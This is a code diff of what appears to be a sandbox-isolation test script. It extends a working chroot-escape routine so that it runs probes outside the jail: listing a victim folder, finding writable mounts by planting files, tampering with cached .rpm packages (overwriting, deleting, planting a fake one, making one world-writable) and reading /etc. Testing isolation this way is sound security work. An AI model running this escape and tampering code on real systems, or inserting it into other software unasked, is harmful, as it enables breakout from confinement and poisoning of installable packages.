@@ -46,10 +46,11 @@ def through_link():
     write(f'/tmp/link-{os.getpid()}/through-link')
 
 
-def escape_chroot():
+def beyond_chroot(work):
     """The old way out: a root below the folder that one stands in."""
     os.makedirs('/tmp/jail', exist_ok=True)
     outside = os.open('/', os.O_RDONLY)
+    reading, writing = os.pipe()
     child = os.fork()
     if child == 0:
         try:
@@ -58,13 +59,51 @@ def escape_chroot():
             for _ in range(64):
                 os.chdir('..')
             os.chroot('.')
-            write(VICTIM + '/through-chroot')
+            os.write(writing, (work() or '').encode())
             os._exit(0)
         except OSError as error:
             os._exit(error.errno)
+    os.close(writing)
+    said = os.fdopen(reading).read()
     code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
     if code:
         raise OSError(code, 'in the child')
+    return said or None
+
+
+def mounts():
+    """Where something is mounted, except in the image itself."""
+    places = {line.split()[4] for line in open('/proc/self/mountinfo')}
+    images = [place for place in places if os.path.exists(place.rstrip('/') + '/usr/libexec/attack.py')]
+    return sorted(place for place in places if not any(place == image or place.startswith(image.rstrip('/') + '/') for image in images))
+
+
+def can_write(place):
+    try:
+        if not os.path.isdir(place):
+            os.close(os.open(place, os.O_WRONLY))
+        else:
+            write(place + '/planted-by-attack')
+        return True
+    except OSError:
+        return False
+
+
+def packages():
+    """The package cache: whether a package shows, and what writing one, or beside it, comes to."""
+    found = [os.path.join(folder, name) for place in mounts() if not (place + '/').startswith(('//', '/usr/', '/proc/', '/dev/'))
+             for folder, _, names in os.walk(place) for name in names if name.endswith('.rpm')]
+    if not found:
+        return 'none'
+    results = set()
+    for way in (lambda: os.close(os.open(found[0], os.O_WRONLY)), lambda: os.unlink(found[0]),
+                lambda: write(os.path.dirname(found[0]) + '/planted.rpm'), lambda: os.chmod(found[0], 0o666)):
+        try:
+            way()
+            results.add('done')
+        except OSError as error:
+            results.add(errno.errorcode[error.errno])
+    return ' '.join(sorted(results))
 
 
 def through_processes():
@@ -130,7 +169,11 @@ def drop_in(folder):
 attempt('a file through an absolute link', through_link)
 attempt('a file through ..', lambda: write('/' + '../' * 40 + VICTIM + '/through-dots'))
 attempt('a file below another process', through_processes)
-attempt('a file after chroot', escape_chroot)
+attempt('a file after chroot', lambda: beyond_chroot(lambda: write(VICTIM + '/through-chroot')))
+attempt('a folder after chroot', lambda: beyond_chroot(lambda: ' '.join(os.listdir(VICTIM))))
+attempt('places to write in after chroot', lambda: beyond_chroot(lambda: ' '.join(filter(can_write, mounts()))))
+attempt('the package cache', lambda: beyond_chroot(packages))
+attempt('settings after chroot', lambda: beyond_chroot(lambda: '' if os.path.exists('/usr/libexec/attack.py') else ' '.join(sorted(os.listdir('/etc')))))
 attempt('a file below an open folder', open_files)
 attempt('memory beyond the limit', lambda: mmap.mmap(-1, 3 << 30, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS).close())
 attempt('a folder of the machine', lambda: ' '.join(os.listdir(VICTIM)))
